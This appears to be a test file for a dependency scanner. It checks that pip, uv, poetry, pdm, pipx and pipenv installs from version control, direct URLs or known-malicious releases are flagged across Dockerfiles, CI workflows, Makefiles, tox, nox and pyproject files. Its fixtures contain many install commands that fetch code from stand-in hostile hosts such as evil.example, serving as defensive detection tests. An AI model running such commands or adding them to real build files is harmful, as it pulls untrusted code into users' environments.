import { describe, expect, it } from 'vitest';
import type { ScanResult } from '../../../src/core/result.js';
import { EMPTY_REGISTRY } from '../../../src/core/trusted-registry.js';
import { installArguments } from '../../../src/deps/parsers/python/install-arguments.js';
import { namedRequirementsFiles, shellCommands } from '../../../src/deps/parsers/python/install-requirements.js';
import { pythonDepsStage } from '../../../src/deps/parsers/python/stage.js';
import { DEFAULT_POLICY } from '../../../src/trust/policy/default.js';
import { scanWith } from '../../helpers/scan.js';
import { tempTrees } from '../../helpers/temp-tree.js';

const tree = tempTrees('cp-install-args-');
const SOURCE_RULES = new Set(['CPP013', 'CPP014', 'CPP015', 'CPP016', 'CPP021']);
const ids = (r: ScanResult) =>
  r.findings
    .filter((f) => SOURCE_RULES.has(f.ruleId))
    .map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}`)
    .sort();

/**
 * pip reads each argument of `pip install` with `install_req_from_line` (`-e` ones with `install_req_from_editable`),
 * as `req_file` reads a requirements-file line: a version-control, URL or local-archive argument is judged as that
 * line is (CPP013–CPP016), at the command's file and line. Plain names (`pip install pytest`) and the project itself
 * (`pip install -e .`) are no finding.
 */
describe('requirements given on an install command line', () => {
  it('a Dockerfile: VCS, URL and committed-archive arguments, not names, options, variables or build outputs', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN pip install --no-cache-dir git+https://github.com/o/r.git@main', // 2
        'RUN pip install https://evil.example/x-1.0-py3-none-any.whl \\', // 3
        '    requests flask==2.0', // 4
        'RUN python -m pip install -e . && uv pip install "foo @ git+https://github.com/a/b"', // 5
        'RUN pip install --target /opt/x -r requirements.txt ./vendor/w-1.0-py3-none-any.whl', // 6
        'RUN pip install dist/*.whl /wheels/y-1.0-py3-none-any.whl ./lib ".[dev]"', // 7
        'RUN pip3 install http://plain.example/p.tar.gz', // 8
        'RUN pip install "torch==${V}" $PKGS git+https://github.com/o/r@${REF}', // 9
        'RUN pip install -qegit+https://github.com/o/e#egg=e', // 10
        'RUN uv pip install -p /usr/bin/python3 --python-platform linux numpy', // 11
        'RUN pip install foo > /tmp/log.tar.gz 2>&1', // 12
        'RUN pip install --prefix=/install --root /r --cache-dir /c --log /l -t /t .', // 13
        'RUN ["pip", "install", "--no-deps", "git+https://github.com/o/exec"]', // 14
        'RUN ["/bin/sh", "-c", "pip install -r requirements.txt && pip install https://e.example/sh.zip"]', // 15
      ].join('\n'),
      'requirements.txt': 'requests==2.31.0\n',
      'vendor/w-1.0-py3-none-any.whl': 'not a wheel',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP014@Dockerfile:2',
        'CPP015@Dockerfile:3',
        'CPP014@Dockerfile:5',
        'CPP016@Dockerfile:6',
        'CPP013@Dockerfile:8',
        'CPP015@Dockerfile:8',
        'CPP014@Dockerfile:9',
        'CPP014@Dockerfile:10',
        'CPP014@Dockerfile:14',
        'CPP015@Dockerfile:15',
      ].sort(),
    );
  });

  it('workflows, scripts, tox and nox: each finding at its own file and line', async () => {
    const dir = tree({
      '.github/workflows/ci.yml': [
        'on: push', // 1
        'jobs:', // 2
        '  t:', // 3
        '    runs-on: ubuntu-latest', // 4
        '    steps:', // 5
        '      - run: pip install -e ".[test]" pytest', // 6
        '      - run: |', // 7
        '          python -m pip install --upgrade pip', // 8
        '          pip install "svn+https://svn.example/repo#egg=thing"', // 9
        '      - run: pipx install git+https://github.com/o/tool && uvx --from https://e.example/u.zip u', // 10
      ].join('\n'),
      'scripts/setup.sh': '#!/bin/sh\nset -e\npip install https://evil.example/s.tar.gz\n',
      'tox.ini': [
        '[testenv]', // 1
        'deps =', // 2
        '    pytest>=7', // 3
        '    git+https://github.com/evil/tox-dep', // 4
        '    py312: https://evil.example/t.zip --hash=sha256:00', // 5
        'commands = pytest', // 6
      ].join('\n'),
      'pkg/tox.toml': '[env_run_base]\ndeps = [\n  "pytest",\n  "https://evil.example/toml.tar.gz",\n]\n',
      'noxfile.py': [
        'import nox', // 1
        '@nox.session', // 2
        'def tests(session):', // 3
        '    session.install("-e", ".")', // 4
        '    session.install("pytest", "https://evil.example/nox.tar.gz")', // 5
      ].join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP014@.github/workflows/ci.yml:9',
        'CPP014@.github/workflows/ci.yml:10',
        'CPP015@.github/workflows/ci.yml:10',
        'CPP015@scripts/setup.sh:3',
        'CPP014@tox.ini:4',
        'CPP015@tox.ini:5',
        'CPP015@pkg/tox.toml:4',
        'CPP015@noxfile.py:5',
      ].sort(),
    );
  });

  // A bare URL's name is known only once pip builds it: the message names the URL once, not as `url @ url (url)`.
  // poetry console/commands/add.py, pdm cli/commands/add.py + cli/options.py, pipenv cli/options.py: each adds what
  // it names to the project and installs it, as pip would fetch it.
  it('poetry add, pdm add and pipenv install: their arguments, each by its own option table', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN poetry add --source internal -G dev git+https://github.com/o/poetry.git#develop', // 2
        'RUN poetry add -e ./vendor/lib pendulum@^2.0.5 requests@latest https://e.example/p-1.0.tar.gz', // 3
        'RUN pdm add -G dev -e git+https://github.com/o/pdm-e#egg=e --venv http://plain.example/v.zip', // 4
        'RUN pipenv install --index https://i.example/simple -e git+https://github.com/o/pipenv#egg=p', // 5
        'RUN pipenv install --python 3.12 -r req.lst https://e.example/pe.whl', // 6
        'RUN poetry add -C /app --python ">=3.9" evil@1.0.0 && pdm add -p /app evil==1.0.0', // 7
      ].join('\n'),
      'req.lst': 'ok==1.0\n',
    });
    const registry = {
      ...EMPTY_REGISTRY,
      pypiMalicious: [{ id: 'MAL-0000-8', name: 'evil', ranges: [], versions: ['1.0.0'], file: 'mal.json' }],
    };
    expect(ids(await scanWith(dir, [pythonDepsStage], { registry }))).toEqual(
      [
        'CPP014@Dockerfile:2',
        'CPP015@Dockerfile:3',
        'CPP014@Dockerfile:4',
        'CPP013@Dockerfile:4',
        'CPP015@Dockerfile:4',
        'CPP014@Dockerfile:5',
        'CPP015@Dockerfile:6',
        // `evil@1.0.0` is poetry's exact pin; pdm's `-p` takes a value.
        'CPP021@Dockerfile:7',
      ].sort(),
    );
  });

  it('name a bare URL once, and a named one by its name and URL', async () => {
    const dir = tree({
      'setup.sh': [
        'pip install git+https://github.com/o/peft.git@v1 https://e.example/p.tar.gz',
        'pip install "peft @ git+https://github.com/o/peft.git@v2"',
      ].join('\n'),
    });
    const messages = (await scanWith(dir, [pythonDepsStage])).findings
      .filter((f) => SOURCE_RULES.has(f.ruleId))
      .map((f) => f.message.slice(0, f.message.indexOf(' at setup.sh')))
      .sort();
    expect(messages).toEqual([
      'git+https://github.com/o/peft.git@v1 is installed from version control, not pinned to a commit',
      'https://e.example/p.tar.gz is installed from a direct URL',
      'peft @ git+https://github.com/o/peft.git@v2 is installed from version control (git+https://github.com/o/peft.git@v2), not pinned to a commit',
    ]);
  });

  // A monorepo's tox.ini: every environment installs the shared fixtures repository; one installs another too.
  it('one source on many lines of a file is one finding with the count, at the level the policy gives', async () => {
    const envs = Array.from({ length: 40 }, (_, i) =>
      [`[testenv:pkg${i}]`, 'deps =', '    pytest', '    git+https://github.com/acme/fixtures.git@v2'].join('\n'),
    );
    const dir = tree({
      'tox.ini': [...envs, '[testenv:docs]', 'deps = git+https://github.com/acme/theme.git@main'].join('\n\n') + '\n',
    });
    const policy = {
      ...DEFAULT_POLICY,
      dependencies: { ...DEFAULT_POLICY.dependencies, sources: { git: 'error', tarball: 'warning', file: 'note' } },
    } as const;
    const found = (await scanWith(dir, [pythonDepsStage], { policy })).findings.filter((f) => f.ruleId === 'CPP014');
    expect(found.map((f) => [f.location.line, f.level, f.evidence?.['count']])).toEqual([
      [4, 'error', 40],
      [203, 'error', undefined],
    ]);
    expect(found[0]!.message).toMatch(
      /^40 lines in tox\.ini install git\+https:\/\/github\.com\/acme\/fixtures\.git@v2 from version control \(lines 4, 9, 14, 19, 24, …\)\./,
    );
    expect(found[0]!.related).toHaveLength(39);
  });

  it("follow the policy's sources levels, and a pinned malicious release is CPP021", async () => {
    const dir = tree({
      'install.sh': 'pip install git+https://github.com/o/r@main ctx==0.2.2 ctx\n',
    });
    const policy = {
      ...DEFAULT_POLICY,
      dependencies: { ...DEFAULT_POLICY.dependencies, sources: { git: 'off', tarball: 'warning', file: 'note' } },
    } as const;
    const registry = {
      ...EMPTY_REGISTRY,
      pypiMalicious: [{ id: 'MAL-0000-9', name: 'ctx', ranges: [], versions: ['0.2.2'], file: 'mal.json' }],
    };
    expect(ids(await scanWith(dir, [pythonDepsStage], { policy, registry }))).toEqual(['CPP021@install.sh:1']);
  });
});

describe('install commands as make, the CI runner and docker build hand them to the shell', () => {
  // POSIX sh `-c`: the first operand is the command string the shell runs.
  it("a shell's -c script is read as the commands it runs", async () => {
    const dir = tree({
      Dockerfile: [
        'FROM continuumio/miniconda3', // 1
        'RUN /bin/bash -c "source activate env && pip install git+https://github.com/evil/bash-c.git"', // 2
        "RUN sh -ec 'pip install -r deps/pins.lst' && bash -o pipefail -c 'uvx --from git+https://github.com/o/u u'", // 3
        'RUN bash install.sh git+https://github.com/evil/script-arg.git', // 4
        'RUN echo -c "pip install git+https://github.com/evil/echoed.git"', // 5
      ].join('\n'),
      'deps/pins.lst': 'https://evil.example/pin-1.0.tar.gz\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      ['CPP014@Dockerfile:2', 'CPP014@Dockerfile:3', 'CPP015@deps/pins.lst:1'].sort(),
    );
  });

  // BuildKit's parser drops blank and comment lines inside a continued instruction (`isEmptyContinuationLine`); a
  // shell ends the command there.
  it('a Dockerfile: a comment or blank line inside a continued RUN does not end it; in a script it does', async () => {
    const lines = [
      'FROM python:3.12', // 1
      'RUN pip install --no-cache-dir \\', // 2
      '    # pinned below', // 3
      '    git+https://github.com/evil/commented.git \\', // 4
      '', // 5
      '    requests && pip install \\', // 6
      '#', // 7
      '    https://evil.example/after-1.0.tar.gz', // 8
      'RUN pip install flask', // 9
      '# git+https://github.com/evil/comment-only.git', // 10
    ];
    const dir = tree({
      Dockerfile: lines.join('\n'),
      'build.sh': lines
        .slice(1)
        .map((l) => l.replace(/^RUN /, ''))
        .join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP014@Dockerfile:4', 'CPP015@Dockerfile:8']);
  });

  // BuildKit's `possibleParserDirective` / `setEscapeToken`: after `# escape=``, a backtick at a line's end continues
  // the instruction and a backslash is text. A here-document's body is the shell's, where `\` still continues.
  it('a Dockerfile with `# escape=`` continues its instructions at backticks, not backslashes', async () => {
    const dir = tree({
      Dockerfile: [
        '# syntax=docker/dockerfile:1', // 1
        '# check=skip=all', // 2
        '# escape=`', // 3
        'FROM python:3.12', // 4
        'RUN pip install --no-cache-dir `', // 5
        '    # pinned below', // 6
        '    git+https://github.com/evil/backtick.git', // 7
        'RUN pip install flask \\', // 8
        '    git+https://github.com/evil/not-continued.git', // 9
        'RUN <<EOF', // 10
        'pip install \\', // 11
        '    https://evil.example/in-heredoc-1.0.tar.gz', // 12
        'EOF', // 13
      ].join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP014@Dockerfile:7', 'CPP015@Dockerfile:12']);
  });

  // BuildKit's `Parse` reads the lines after a `RUN` / `COPY` / `ADD` with `<<NAME` words as here-documents up to
  // each terminator, raw; `dispatchRun` runs a lone `RUN <<EOF` body with the shell (a `#!` one with its
  // interpreter) and otherwise hands the body to the command as stdin. A Python program is no shell lines; nothing
  // reads a heredoc with no command; a file (`COPY <<EOF`, `cat > f <<EOF`) may be run as a script later. A builder
  // without heredocs reads a body's `RUN` line as an instruction.
  it('a Dockerfile: heredoc bodies are read as shell lines unless Python or nothing reads them', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN <<EOF', // 2
        'set -e', // 3
        'pip install git+https://github.com/evil/lone.git', // 4
        'pip install requests \\', // 5
        '# in a shell script a comment ends the command', // 6
        'git+https://github.com/evil/not-installed.git', // 7
        'EOF', // 8
        'RUN python3 - 2>&1 <<EOF', // 9
        'import os; os.environ["X"] = "1"', // 10
        'pip install git+https://github.com/evil/python-text.git', // 11
        'RUN pip install git+https://github.com/evil/classic-builder.git', // 12
        'EOF', // 13
        'RUN <<EOF', // 14
        '#!/usr/bin/env python3', // 15
        'pip install git+https://github.com/evil/shebang-python.git', // 16
        'EOF', // 17
        'RUN <<EOF', // 18
        '#!/bin/bash -e', // 19
        'pip install git+https://github.com/evil/shebang-bash.git', // 20
        'EOF', // 21
        'COPY <<EOF /app/notes.txt', // 22
        'pip install git+https://github.com/evil/copied-file.git', // 23
        'EOF', // 24
        'RUN --mount=type=cache,target=/root/.cache cd /app && VAR=1 sh -e <<-EOT', // 25
        '\tpip install git+https://github.com/evil/chomped.git', // 26
        '\tEOT', // 27
        'RUN <<A <<B', // 28
        'pip install git+https://github.com/evil/no-command-a.git', // 29
        'A', // 30
        'pip install git+https://github.com/evil/no-command-b.git', // 31
        'B', // 32
        'RUN cat > /app/run.sh <<"EOF" && bash /app/run.sh', // 33
        'pip install git+https://github.com/evil/written-file.git', // 34
        'EOF', // 35
        'RUN pip install git+https://github.com/evil/after.git', // 36
      ].join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP014@Dockerfile:4',
        'CPP014@Dockerfile:12',
        'CPP014@Dockerfile:20',
        'CPP014@Dockerfile:23',
        'CPP014@Dockerfile:26',
        'CPP014@Dockerfile:34',
        'CPP014@Dockerfile:36',
      ].sort(),
    );
  });

  // make expands `$(PIP)` before the shell runs the recipe (GNU make `variable_expand_string`): the line is the
  // `pip install` it becomes.
  it('a Makefile: variables the file sets are expanded, unset ones named after the program are that program', async () => {
    const dir = tree({
      Makefile: [
        'VENV := .venv', // 1
        'PIP = $(VENV)/bin/pip', // 2
        'UV ?= uv', // 3
        'UV ?= echo', // 4
        'ECHO = echo', // 5
        'A = $(B)$(B)', // 6
        'B = $(C)$(C)', // 7
        'C = $(D)$(D)', // 8
        'D = $(E)$(E)', // 9
        'E = $(F)$(F)', // 10
        'F = $(G)$(G)', // 11
        'G = $(H)$(H)', // 12
        'H = $(I)$(I)', // 13
        'I = $(J)$(J)', // 14
        'J = $(K)$(K)', // 15
        'K = $(L)$(L)', // 16
        'L =', // 17
        'install:', // 18
        '\t$(PIP) install git+https://github.com/evil/make.git', // 19
        '\t@${UV} pip install https://evil.example/uv-1.0.tar.gz', // 20
        '\t$(PIP3) install git+https://github.com/evil/unset.git', // 21
        '\t$(ECHO) install git+https://github.com/evil/echoed.git', // 22
        '\tPIP=pip; $$PIP install git+https://github.com/evil/shell.git', // 23
        '\t$(A) $(PIP) install git+https://github.com/evil/bombed.git', // 24
        '\t$(PIP) install -r deps/pins.lst', // 25
      ].join('\n'),
      'deps/pins.lst': 'https://evil.example/pinned-1.0.tar.gz\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP014@Makefile:19',
        'CPP015@Makefile:20',
        'CPP014@Makefile:21',
        'CPP014@Makefile:23',
        // Past the bound on expansions the line is read as written: `$(PIP)` is pip by its name.
        'CPP014@Makefile:24',
        'CPP015@deps/pins.lst:1',
      ].sort(),
    );
  });

  // A YAML quoted scalar is the string the runner hands to the shell, not one quoted word.
  it('workflows and GitLab CI: a quoted run value or a flow sequence of them is the script', async () => {
    const dir = tree({
      '.github/workflows/ci.yml': [
        'on: push', // 1
        'jobs:', // 2
        '  t:', // 3
        '    runs-on: ubuntu-latest', // 4
        '    steps:', // 5
        '      - run: "pip install git+https://github.com/evil/double.git"', // 6
        "      - run: 'pip install https://evil.example/single-1.0.tar.gz' # comment", // 7
        '      - run: "echo \\"pip install git+https://github.com/evil/echoed.git\\""', // 8
        '      - run: "python -m pip install -r ci/pins.lst"', // 9
        '      - name: "pip install git+https://github.com/evil/unclosed.git', // 10
      ].join('\n'),
      '.gitlab-ci.yml': [
        'test:', // 1
        '  script: ["pip install git+https://github.com/evil/flow.git", \'uvx --from https://e.example/u.zip u\']', // 2
        '  after_script:', // 3
        "    - 'pip install git+https://github.com/evil/item.git'", // 4
      ].join('\n'),
      'ci/pins.lst': 'git+https://github.com/evil/pinned.git\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP014@.github/workflows/ci.yml:6',
        'CPP015@.github/workflows/ci.yml:7',
        'CPP014@ci/pins.lst:1',
        'CPP014@.gitlab-ci.yml:2',
        'CPP015@.gitlab-ci.yml:2',
        'CPP014@.gitlab-ci.yml:4',
      ].sort(),
    );
  });
});

describe('the requirements of a pyproject.toml no lockfile pins', () => {
  // `pip install .` fetches the build requirements into its isolated build environment, then the dependencies;
  // uv and Poetry lock them afresh, with `[tool.uv.sources]` and Poetry's git tables.
  const project = [
    '[build-system]', // 1
    'requires = ["setuptools @ https://evil.example/setuptools-70.0.tar.gz"]', // 2
    '', // 3
    '[project]', // 4
    'name = "app"', // 5
    'version = "0.1.0"', // 6
    'dependencies = [', // 7
    '  "requests>=2",', // 8
    '  "foo @ git+https://github.com/evil/foo.git",', // 9
    ']', // 10
    '[project.optional-dependencies]', // 11
    "gpu = ['bar @ https://evil.example/bar-1.0.tar.gz']", // 12
    '[dependency-groups]', // 13
    'dev = ["pytest", { include-group = "lint" }, "baz @ git+https://github.com/evil/baz@v1"]', // 14
    '[tool.uv.sources]', // 15
    'qux = { git = "https://github.com/evil/qux", branch = "main" }', // 16
    '[tool.poetry.dependencies]', // 17
    'quux = { git = "https://github.com/evil/quux.git", rev = "0123456789abcdef0123456789abcdef01234567" }', // 18
  ].join('\n');

  it('are judged as install arguments at their lines when no lockfile is beside it', async () => {
    const dir = tree({ 'pkg/pyproject.toml': project, 'pkg/requirements.txt': 'requests==2.31.0\n' });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP015@pkg/pyproject.toml:2',
        'CPP014@pkg/pyproject.toml:9',
        'CPP015@pkg/pyproject.toml:12',
        'CPP014@pkg/pyproject.toml:14',
        'CPP014@pkg/pyproject.toml:16',
        // At a full commit, still from version control (as the same requirements-file line).
        'CPP014@pkg/pyproject.toml:18',
      ].sort(),
    );
  });

  it('are not checked when the file is no TOML, which is said at the line parsing stopped', async () => {
    const deep = `x = ${'['.repeat(2000)}${']'.repeat(2000)}`;
    const broken = project.replace('name = "app"', 'name = "app') + '\n';
    const dir = tree({ 'a/pyproject.toml': broken, 'b/pyproject.toml': `${project}\n${deep}\n` });
    const found = (await scanWith(dir, [pythonDepsStage])).findings.filter((f) => f.ruleId === 'CPP001');
    expect(found.map((f) => `${f.location.path}:${f.location.line ?? 0}`).sort()).toEqual([
      'a/pyproject.toml:5',
      'b/pyproject.toml:19',
    ]);
    expect(found[0]!.message).toMatch(
      /^a\/pyproject\.toml could not be read: not valid TOML: .*none of the requirements/,
    );
  });

  it('name a path outside the repository as CPP073, once per path; a path inside the tree is none', async () => {
    const local = [
      '[project]', // 1
      'name = "app"', // 2
      'version = "0.1.0"', // 3
      'dependencies = [', // 4
      '  "helper @ file:///opt/vendor/helper",', // 5
      '  "sibling @ file:../../outside/sibling",', // 6
      '  "inside @ file:./libs/inside",', // 7
      ']', // 8
      '[dependency-groups]', // 9
      'dev = ["helper @ file:///opt/vendor/helper"]', // 10
    ].join('\n');
    const dir = tree({ 'pkg/pyproject.toml': local, 'pkg/libs/inside/setup.py': '' });
    const found = (await scanWith(dir, [pythonDepsStage])).findings.filter((f) => f.ruleId === 'CPP073');
    expect(found.map((f) => `${f.location.path}:${f.location.line ?? 0} ${f.evidence?.path as string}`).sort()).toEqual(
      ['pkg/pyproject.toml:5 /opt/vendor/helper', 'pkg/pyproject.toml:6 ../../outside/sibling'],
    );
  });

  it("name a uv or Poetry path source outside the repository as CPP073, at the path's line", async () => {
    const sources = [
      '[project]', // 1
      'name = "app"', // 2
      'version = "0.1.0"', // 3
      'dependencies = ["helper", "near"]', // 4
      '[tool.uv.sources]', // 5
      'helper = { path = "/opt/vendor/helper" }', // 6
      'near = { path = "../near" }', // 7
      '[tool.poetry.group.dev.dependencies]', // 8
      'tool = [{ path = "../../../tool", markers = "sys_platform == \'linux\'" }, { version = "^1" }]', // 9
    ].join('\n');
    const dir = tree({ 'pkg/pyproject.toml': sources });
    const found = (await scanWith(dir, [pythonDepsStage])).findings.filter((f) => f.ruleId === 'CPP073');
    expect(found.map((f) => `${f.location.path}:${f.location.line ?? 0} ${f.evidence?.path as string}`).sort()).toEqual(
      ['pkg/pyproject.toml:6 /opt/vendor/helper', 'pkg/pyproject.toml:9 ../../../tool'],
    );
  });

  it('are left to the lockfile beside it, which the install follows', async () => {
    const dir = tree({ 'pyproject.toml': project, 'uv.lock': 'version = 1\nrequires-python = ">=3.10"\n' });
    expect(ids(await scanWith(dir, [pythonDepsStage])).filter((id) => id.includes('pyproject'))).toEqual([]);
  });
});

describe('abbreviated pip options on a command line', () => {
  it("are the options they abbreviate (optparse's _match_abbrev): an index, not a URL requirement", async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN pip install --extra-index https://evil.example/simple --trusted evil2.example foo', // 2
      ].join('\n'),
    });
    const r = await scanWith(dir, [pythonDepsStage]);
    expect(r.findings.map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}`).sort()).toEqual(
      ['CPP012@Dockerfile:2', 'CPP070@Dockerfile:2', 'CPP071@Dockerfile:2'].sort(),
    );
  });
});

/**
 * Each tool reads its global options before the command name (pip's `parse_command`, uv's clap `global = true`
 * arguments, cleo's `first_argument` for poetry, pdm's and pipx's root parsers): `poetry -C app add x` adds x.
 */
describe('global options before an install command', () => {
  it('are skipped, with their values, to the command and its arguments', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN poetry -C app add git+https://github.com/o/poetry-c', // 2
        'RUN poetry --directory=app --no-interaction add https://e.example/p-1.0.tar.gz', // 3
        'RUN pip --isolated --log /tmp/pip.log install git+https://github.com/o/pip', // 4
        'RUN python -m pip --disable-pip-version-check -q download https://e.example/d-1.0.zip', // 5
        'RUN pipx --verbose install git+https://github.com/o/pipx', // 6
        'RUN uv --directory app add git+https://github.com/o/uv-dir', // 7
        'RUN uv --project app --cache-dir /c tool --color never run --from git+https://github.com/o/uvx x', // 8
        'RUN pdm -c /etc/pdm.toml -v add git+https://github.com/o/pdm', // 9
        'RUN pipenv --python 3.12 install git+https://github.com/o/pipenv#egg=p', // 10
      ].join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP014@Dockerfile:2',
        'CPP015@Dockerfile:3',
        'CPP014@Dockerfile:4',
        'CPP015@Dockerfile:5',
        'CPP014@Dockerfile:6',
        'CPP014@Dockerfile:7',
        'CPP014@Dockerfile:8',
        'CPP014@Dockerfile:9',
        'CPP014@Dockerfile:10',
      ].sort(),
    );
  });

  it("take their values by each tool's table: a value is no command, a flag's next word is", () => {
    const text = [
      // pip's `--cache-dir` takes a value (abbreviated `--cache` too), `--isolated` is a flag.
      'pip --cache install install a && pip --isolated install b',
      // poetry's `-C` glued or clustered; `--project` / `-P` take values.
      'poetry -vCapp add c && poetry -P add add d',
      // pdm's `-p` is no root option: pdm refuses `pdm -p app add e` (tried as `pdm run`, whose script is unknown).
      'pdm -p app add e && pdm --config=add add f',
      // uv's `--color` takes a value; `uv pip`'s own global options come after `pip`.
      'uv --color add add g && uv pip -q --cache-dir /c install h',
      // A value option at the command's end takes no word of the next command.
      'pip --log && pip install i',
    ].join('\n');
    expect(installArguments(text, 'Dockerfile').map((a) => `${a.line}:${a.written}`)).toEqual([
      '1:a',
      '1:b',
      '2:c',
      '2:d',
      '3:f',
      '4:g',
      '4:h',
      '5:i',
    ]);
  });
});

/**
 * A relative path argument is read in the folder the command runs in: uv changes into `--directory` (a global option,
 * after the command too), poetry reads `add`'s paths relative to its project (`--project`, relative to
 * `--directory`: console/application.py `_configure_global_options`, `InitCommand._parse_requirements`), the last
 * option given counting for every argument.
 */
describe('a path argument under a directory option', () => {
  it('is the archive in that folder', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN poetry -C app add ./vendor/a-1.0-py3-none-any.whl', // 2
        'RUN poetry add vendor/b-1.0.tar.gz --directory=app', // 3
        'RUN poetry -C app -P lib add ./c-1.0.zip', // 4
        'RUN uv --directory app pip install ./vendor/d-1.0-py3-none-any.whl', // 5
        'RUN uv pip install vendor/e-1.0.tar.gz --directory app', // 6
        // Not a file there: built or fetched by the build, whose inputs are judged instead.
        'RUN poetry -C other add ./vendor/a-1.0-py3-none-any.whl && uv --project app pip install ./vendor/e-1.0.tar.gz', // 7
      ].join('\n'),
      'app/vendor/a-1.0-py3-none-any.whl': 'not a wheel',
      'app/vendor/b-1.0.tar.gz': 'not an sdist',
      'app/lib/c-1.0.zip': 'not an sdist',
      'app/vendor/d-1.0-py3-none-any.whl': 'not a wheel',
      'app/vendor/e-1.0.tar.gz': 'not an sdist',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP016@Dockerfile:2',
        'CPP016@Dockerfile:3',
        'CPP016@Dockerfile:4',
        'CPP016@Dockerfile:5',
        'CPP016@Dockerfile:6',
      ].sort(),
    );
  });
});

describe('a hostile line of global options', () => {
  // Each `pip` read the rest of the line as its options looking for its command: 120 000 words did not return in
  // five minutes. The words a program reads as its own options are read once.
  it('is read once; the install after it is found', () => {
    const text = `RUN ${'pip --log '.repeat(60_000)}x; pip install git+https://github.com/o/after`;
    expect(installArguments(text, 'Dockerfile').map((a) => a.written)).toEqual(['git+https://github.com/o/after']);
    expect(
      namedRequirementsFiles(shellCommands(`${'uv --color '.repeat(60_000)}; pip install -r r.lst`), 'Dockerfile'),
    ).toEqual([{ written: 'r.lst', line: 1, constraint: false }]);
  });
});

describe('installArguments', () => {
  it("skips each tool's option values and keeps -e values as editables", () => {
    const text = [
      'pip install -r req.txt -c c.txt --index-url https://i.example/simple -e ./pkg --config-settings=a=b foo -Ue bar',
      'uv pip install -P torch --python-platform linux -b build.txt --override o.txt baz',
      'pip download -d /d qux && pip wheel -w /w quux; pip list -v corge # pip install grault',
      'uv add --rev main --optional gpu git+https://github.com/o/a && uv tool install --with a,b -p 3.12 tool',
      'uvx --from git+https://github.com/o/x x --flag ./y && uv run --with https://e.example/w.tar.gz -m pytest z',
      'pipx install -f -e --pip-args "--no-cache-dir" pkg && pipx run --spec ./r.tar.gz r arg',
    ].join('\n');
    expect(installArguments(text, 'Dockerfile').map((a) => `${a.line}:${a.editable ? '-e ' : ''}${a.written}`)).toEqual(
      [
        '1:-e ./pkg',
        '1:foo',
        '1:-e bar',
        '2:baz',
        '3:qux',
        '3:quux',
        '4:git+https://github.com/o/a',
        '4:a',
        '4:b',
        '4:tool',
        '5:git+https://github.com/o/x',
        '5:https://e.example/w.tar.gz',
        '6:pkg',
        '6:./r.tar.gz',
      ],
    );
  });

  // uv-cli's `ToolRunArgs` / `ToolInstallArgs` / `RunArgs` and pipx main.py's parsers, option by option.
  it("reads uv's and pipx's requirement options and skips their value options", () => {
    const text = [
      'uvx -w git+https://github.com/o/w ruff && uv tool install -wgit+https://github.com/o/glued tool',
      'uv run --env-file .env --no-group dev --only-group ci --no-extra x --with git+https://github.com/o/r s.py',
      'uv tool install --with-executables-from a,git+https://github.com/o/e tool',
      'pipx install --fetch-python missing --preinstall git+https://github.com/o/pre pkg',
      'pipx inject -r reqs.txt app git+https://github.com/o/inj dep && pipx run --preinstall ./p.tar.gz r',
    ].join('\n');
    expect(installArguments(text, 'Dockerfile').map((a) => `${a.line}:${a.written}`)).toEqual([
      '1:git+https://github.com/o/w',
      '1:git+https://github.com/o/glued',
      '1:tool',
      '2:git+https://github.com/o/r',
      '3:a',
      '3:git+https://github.com/o/e',
      '3:tool',
      '4:git+https://github.com/o/pre',
      '4:pkg',
      '5:git+https://github.com/o/inj',
      '5:dep',
      '5:./p.tar.gz',
    ]);
  });
});
